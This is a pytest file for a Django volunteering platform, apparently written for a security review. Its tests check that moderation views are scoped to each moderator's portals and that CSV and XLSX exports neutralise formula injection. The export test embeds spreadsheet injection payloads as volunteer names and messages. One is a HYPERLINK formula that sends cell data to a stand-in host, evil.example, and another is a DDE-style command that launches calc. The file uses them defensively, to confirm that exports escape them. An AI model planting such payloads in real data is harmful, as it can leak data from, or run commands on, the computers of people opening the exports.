"""Security review (issue 12): moderation scope, mission portals and edits, exports, team."""

import pytest
from django.test import Client
from django.utils import timezone

from accounts.models import User
from missions import services
from missions.models import Mission
from organisations.models import Membership, Organisation
from organisations.services import ensure_moderators_group

pytestmark = pytest.mark.django_db
H = {"HTTP_HOST": "localhost"}
ADMIN = {"HTTP_HOST": "localhost", "follow": True}  # an admin 404 redirects to /fr/... first


def confirmed(email, **fields):
    return User.objects.create_user(email, email_confirmed_at=timezone.now(), **fields)


def client_for(user):
    client = Client()
    client.force_login(user)
    return client


def organisation_on(site, slug, status=Organisation.Status.VALIDATED, **fields):
    return Organisation.objects.create(
        site=site, name=slug.title(), slug=slug, rna="W751234567", status=status,
        contact_email=f"contact@{slug}.example.org", siret="", **fields,
    )  # fmt: skip


def mission_of(organisation, slug, places=3, status=Mission.Status.VALIDATED, **fields):
    mission = Mission.objects.create(
        organisation=organisation, title=slug.title(), slug=slug, description="Aider",
        postal_code="75011", city="Paris", latitude=48.8, longitude=2.3, places=places,
        status=status, **fields,
    )  # fmt: skip
    mission.sites.add(organisation.site)
    return mission


# --- 3. Moderation: every queue view is scoped to the moderator's portals --------------------


def test_moderation_inspect_shows_only_the_moderators_portals(demo):
    own = organisation_on(demo["localhost"], "asso-locale", Organisation.Status.SUBMITTED)
    other = organisation_on(
        demo["covid19.localhost"], "asso-covid", Organisation.Status.SUBMITTED,
        contact_phone="0600000000",
    )  # fmt: skip
    own_mission = mission_of(own, "mission-locale", status=Mission.Status.SUBMITTED)
    other_mission = mission_of(other, "mission-covid", status=Mission.Status.SUBMITTED)
    moderator = User.objects.create_user("mod-a@example.com")
    moderator.groups.add(ensure_moderators_group(demo["localhost"]))
    client = client_for(moderator)
    inspect = "/admin/organisation_queue/inspect/{}/"
    assert "contact@asso-locale" in client.get(inspect.format(own.pk), **ADMIN).text
    leaked = client.get(inspect.format(other.pk), **ADMIN)
    assert leaked.status_code == 404
    assert "contact@asso-covid" not in leaked.text
    inspect = "/admin/mission_queue/inspect/{}/"
    assert client.get(inspect.format(own_mission.pk), **ADMIN).status_code == 200
    assert client.get(inspect.format(other_mission.pk), **ADMIN).status_code == 404
    results = client.get("/admin/organisation_queue/results/", **ADMIN)
    assert "Asso-Locale" in results.text and "Asso-Covid" not in results.text
    for url in (f"/admin/organisation_queue/moderate/{other.pk}/",
                f"/admin/mission_queue/moderate/{other_mission.pk}/"):  # fmt: skip
        assert client.get(url, **ADMIN).status_code == 404
        client.post(url, {"decision": "validated"}, **H)
    other.refresh_from_db()
    other_mission.refresh_from_db()
    assert other.status == other_mission.status == "submitted"


# --- 6. Exports: what volunteers type is never a formula --------------------------------------


def test_exports_neutralise_formulas(demo):
    import csv
    import io

    import openpyxl

    organisation = organisation_on(demo["localhost"], "asso-export")
    manager = confirmed("manager-export@example.com")
    Membership.objects.create(organisation=organisation, user=manager)
    mission = mission_of(organisation, "mission-export")
    evil = confirmed(
        "evil@example.com", first_name='=HYPERLINK("http://evil.example/?x="&C2,"Voir")',
        last_name="+cmd|' /C calc'!A0",
    )  # fmt: skip
    services.apply(mission.pk, evil, "@SUM(1+1)\n-2+3")
    tabbed = confirmed("tab@example.com", first_name="\t=1+1", last_name="\r=2+2")
    services.apply(mission.pk, tabbed, "Bonjour")
    url = f"/fr/espace-association/{organisation.pk}/missions/{mission.pk}/candidatures"
    client = client_for(manager)
    rows = list(csv.reader(io.StringIO(client.get(url + ".csv", **H).content.decode())))
    by_email = {row[2]: row for row in rows[1:]}
    assert by_email["evil@example.com"][0] == '\'=HYPERLINK("http://evil.example/?x="&C2,"Voir")'
    assert by_email["evil@example.com"][1].startswith("'+")
    assert by_email["evil@example.com"][6].startswith("'@")
    assert by_email["tab@example.com"][0] == "'\t=1+1"
    assert by_email["tab@example.com"][1] == "'\r=2+2"
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(url + ".xlsx", **H).content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert '\'=HYPERLINK("http://evil.example/?x="&C2,"Voir")' in values
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "@", "-")) for v in values)
